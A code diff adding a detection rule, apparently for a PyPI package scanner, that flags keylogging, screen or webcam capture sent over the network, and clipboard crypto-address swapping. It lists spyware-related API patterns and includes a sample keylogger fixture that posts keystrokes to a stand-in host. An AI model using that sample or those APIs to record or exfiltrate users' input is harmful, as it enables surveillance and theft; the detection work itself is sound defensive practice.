@@ -1,0 +1,46 @@
+import { defineRule } from '../types.js';
+import type { PyPackage, PyReport } from '../../analysis/python/model.js';
+import { triggerOf } from '../../analysis/python/model.js';
+import { when } from './util.js';
+
+const KEYLOG_RE = /^(?:pynput\.keyboard\.Listener|keyboard\.(?:on_press|on_release|hook|read_key|record)|win32api\.GetAsyncKeyState|ctypes\.windll\.user32\.(?:GetAsyncKeyState|SetWindowsHookExA|SetWindowsHookExW)|pyxhook\.HookManager)$/;
+const SCREEN_RE = /^(?:PIL\.ImageGrab\.grab|ImageGrab\.grab|pyautogui\.screenshot|mss\.mss|pyscreenshot\.grab|cv2\.VideoCapture)$/;
+const CLIP_RE = /^(?:pyperclip\.(?:paste|copy)|clipboard\.(?:paste|copy)|win32clipboard\.(?:GetClipboardData|SetClipboardText|SetClipboardData))$/;
+const ADDRESS_RE = /\^?\(?(?:bc1|\[13\]|0x\[a-fA-F0-9\]\{40\}|T\[A-Za-z1-9\]\{33\}|4\[0-9AB\])/;
+
+export const spyware = defineRule<PyPackage, PyReport>({
+  meta: {
+    id: 'py/spyware',
+    kind: 'threat',
+    category: 'credential-access',
+    severity: 'high',
+    confidence: 'medium',
+    ecosystems: ['pypi'],
+    description: 'Keylogging, screenshots or webcam capture sent over the network, or clipboard crypto-address swapping.',
+    examples: {
+      positive: [
+        {
+          files: {
+            'pkg/k.py': "from pynput import keyboard\nimport requests\ndef on(k):\n    requests.post('https://k.invalid/', data=str(k))\nkeyboard.Listener(on_press=on).start()\n",
+          },
+        },
+      ],
+      negative: [{ files: { 'pkg/shot.py': "from PIL import ImageGrab\ndef save(path):\n    ImageGrab.grab().save(path)\n" } }],
+    },
+  },
+  check(pkg, report) {
+    for (const file of pkg.files) {
+      const hasSink = file.facts.sinks.some((s) => s.kind !== 'command' && s.dest?.cls !== 'local');
+      for (const c of file.facts.calls) {
+        let what: string | undefined;
+        if (KEYLOG_RE.test(c.name) && hasSink) what = 'records keystrokes and uses the network';
+        else if (SCREEN_RE.test(c.name) && hasSink && file.facts.sinks.some((s) => s.dest !== undefined && ['messenger', 'oob', 'paste', 'ip', 'onion'].includes(s.dest.cls))) what = 'captures the screen/webcam and sends it to a messenger or drop service';
+        else if (CLIP_RE.test(c.name) && c.name.endsWith('copy') === false && ADDRESS_RE.test(file.text) && file.facts.calls.some((x) => /(?:pyperclip|clipboard)\.copy|SetClipboard/.test(x.name))) what = 'watches the clipboard for crypto addresses and replaces them';
+        if (what === undefined) continue;
+        const trigger = triggerOf(file, c);
+        report({ path: file.path, line: c.line, col: c.col, trigger, message: `Spyware behaviour: ${what} (${c.name}) ${when(trigger)}.` });
+        break;
+      }
+    }
+  },
+});
